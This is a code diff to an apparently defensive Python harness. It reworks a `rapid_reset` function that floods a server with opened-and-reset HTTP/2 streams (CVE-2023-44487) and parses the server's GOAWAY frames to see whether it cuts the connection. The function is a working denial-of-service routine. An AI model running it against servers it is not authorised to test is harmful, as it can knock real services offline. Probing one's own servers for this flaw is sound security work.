@@ -104,6 +104,19 @@ def _exchange(host: str, port: int, data: bytes, timeout: float = 5.0) -> dict:
     return {"statuses": statuses, "closed": closed, "bytes": len(got), "head": got[:300].decode("latin-1")}
 
 
+def goaways(data: bytes) -> list[int]:
+    """The error codes of the GOAWAY frames in a server's HTTP/2 byte stream. Framed by hand:
+    h2's client state machine stops parsing at the first frame it dislikes in a flood (a
+    frame for a stream it reset), losing what follows."""
+    codes, i = [], 0
+    while i + 9 <= len(data):
+        length, kind = int.from_bytes(data[i:i + 3], "big"), data[i + 3]
+        if kind == 0x7 and i + 9 + 8 <= len(data):
+            codes.append(int.from_bytes(data[i + 13:i + 17], "big"))
+        i += 9 + length
+    return codes
+
+
 def rapid_reset(host: str, port: int, streams: int) -> dict:
     """Open and at once reset `streams` HTTP/2 streams (CVE-2023-44487), as fast as the
     socket takes them, reading what the server says in between (a GOAWAY must not be lost
@@ -112,22 +125,10 @@ def rapid_reset(host: str, port: int, streams: int) -> dict:
 
     import h2.config
     import h2.connection
-    import h2.events
-    import h2.exceptions
+    import h2.errors
     conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
     conn.initiate_connection()
-    sent, goaway, ended, t0 = 0, None, None, time.monotonic()
-
-    def take(data: bytes) -> None:
-        nonlocal goaway
-        try:
-            events = conn.receive_data(data)
-        except h2.exceptions.ProtocolError:
-            return
-        for ev in events:
-            if isinstance(ev, h2.events.ConnectionTerminated):
-                goaway = ev.error_code.name if hasattr(ev.error_code, "name") else str(ev.error_code)
-
+    sent, got, ended, t0 = 0, b"", None, time.monotonic()
     with socket.create_connection((host, port), timeout=5) as s:
         s.sendall(conn.data_to_send())
         try:
@@ -138,26 +139,26 @@ def rapid_reset(host: str, port: int, streams: int) -> dict:
                 conn.reset_stream(sid)
                 s.sendall(conn.data_to_send())
                 sent += 1
-                while select.select([s], [], [], 0)[0]:
+                while not ended and select.select([s], [], [], 0)[0]:
                     data = s.recv(65536)
-                    if not data:
-                        ended = "eof"
-                        break
-                    take(data)
-                if ended or goaway:
+                    got += data
+                    ended = None if data else "eof"
+                if ended or goaways(got):
                     break
-        except (OSError, h2.exceptions.ProtocolError) as exc:
+        except OSError as exc:
             ended = f"while sending: {exc!r}"
         s.settimeout(5)
         try:
             while not ended and (data := s.recv(65536)):
-                take(data)
+                got += data
             ended = ended or "eof"
         except ConnectionResetError:
             ended = ended or "reset"
         except socket.timeout:
             pass
-    return {"sent": sent, "goaway": goaway, "closed": ended is not None, "ended": ended,
+    codes = goaways(got)
+    return {"sent": sent, "goaway": h2.errors.ErrorCodes(codes[0]).name if codes else None,
+            "closed": ended is not None, "ended": ended, "received": len(got),
             "seconds": round(time.monotonic() - t0, 3)}
 
 
